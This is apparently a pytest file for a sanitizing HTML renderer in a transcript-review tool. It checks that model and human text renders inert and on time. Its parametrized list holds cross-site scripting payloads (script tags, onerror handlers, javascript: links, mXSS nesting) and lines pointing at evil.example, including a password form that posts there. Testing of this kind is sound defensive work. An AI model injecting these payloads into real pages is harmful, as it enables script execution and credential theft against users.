"""What models and people wrote, as HTML: nothing in it runs, loads or takes long, and good text survives."""

import re
from typing import Any

import pytest

from align.review import rendering
from align.review.rendering import LONGEST, LONGEST_FORMULA, to_html, turns

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/track.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "```\n<script>alert(1)</script>\n```",
    '```html"onmouseover=alert(1)\n<b>\n```',
    "$<img src=x onerror=alert(1)>$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    '<form action="https://evil.example"><input name=password></form>',
    '<iframe src="https://evil.example"></iframe>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    '"><script>alert(1)</script>',
    "{{ 7 * 7 }}{% raw %}",
    "<div class=bar style=position:fixed>x</div>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_is_written_stays_text(payload):
    html = str(to_html(payload))
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z0-9-]+)", html))
    assert not tags & {"script", "img", "svg", "style", "iframe", "form", "input", "meta", "base", "mglyph", "object"}
    assert not re.search(r"<[^>]*\s(on\w+|style|class|id|src)\s*=", html)
    assert not re.search(r"<[^>]*(javascript|data|vbscript):", html, re.I)


def test_good_text_survives():
    html = str(
        to_html(
            "# Title\n\n- one\n- **two** `x < y`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x^2$ and [l](https://e.org)"
        )
    )
    for part in (
        "<h1>",
        "<li>",
        "<strong>two</strong>",
        "x &lt; y",
        "<td>1</td>",
        "<msup>",
        'href="https://e.org"',
        "noopener",
    ):
        assert part in html
    assert "[image: a cat]" in str(to_html("![a cat](https://e.org/cat.png)"))


def test_tool_calls_are_shown_whatever_they_hold():
    nasty = {"function": {"name": "```\n<script>", "arguments": {"q": "</code>"}}}
    [(role, html)] = turns([{"role": "assistant", "content": None, "tool_calls": [nasty]}], "assistant")
    assert role == "assistant" and html.startswith("<pre><code>[")
    assert "&lt;script&gt;" in html and "<script" not in html and html.count("</code>") == 1


def test_html_is_shown_as_it_was_written():
    """Taken out by the sanitizer it would be gone, and the rater would judge something else."""
    assert "&lt;b&gt;bold&lt;/b&gt;" in str(to_html("<b>bold</b>"))


def test_the_sanitizer_comes_last(monkeypatch):
    """Whatever Markdown or mathematics might make of a text, what is unknown goes and links stay harmless."""
    monkeypatch.setattr(rendering._MARKDOWN, "render", lambda text: text)
    for payload in (
        "<script>1</script>",
        '<a href="javascript:1">x</a>',
        "<p onclick=1 style=x class=y>z</p>",
        "<img src=x>",
    ):
        html = str(to_html(f"{payload} unseen before"))
        assert not re.search("script|onclick|style|class|img", html), html


def test_deep_nesting_is_rendered_in_time():
    for text in ("> " * 20_000 + "x", "[" * 20_000, "*" * 20_000 + "x", "$" + "{" * 1_900 + "$", "- " * 5_000):
        assert len(str(to_html(text))) < 2_000_000


def test_long_texts_and_formulas_are_cut():
    html = str(to_html("a" * (LONGEST + 5000)))
    assert "5000 more characters are not shown" in html and len(html) < LONGEST + 200
    assert "<math" in str(to_html(f"${'x+' * 100}y$"))
    assert "<math" not in str(to_html(f"${'x+' * LONGEST_FORMULA}y$"))
    assert str(to_html("> " * 60 + "x")).count("<blockquote>") <= 40


def test_what_markdown_cannot_read_is_shown_as_it_is(monkeypatch):
    def fail(text: str) -> Any:
        raise RecursionError

    monkeypatch.setattr(rendering._MARKDOWN, "render", fail)
    assert str(to_html("<b>too deep")) == "<pre>&lt;b&gt;too deep</pre>"
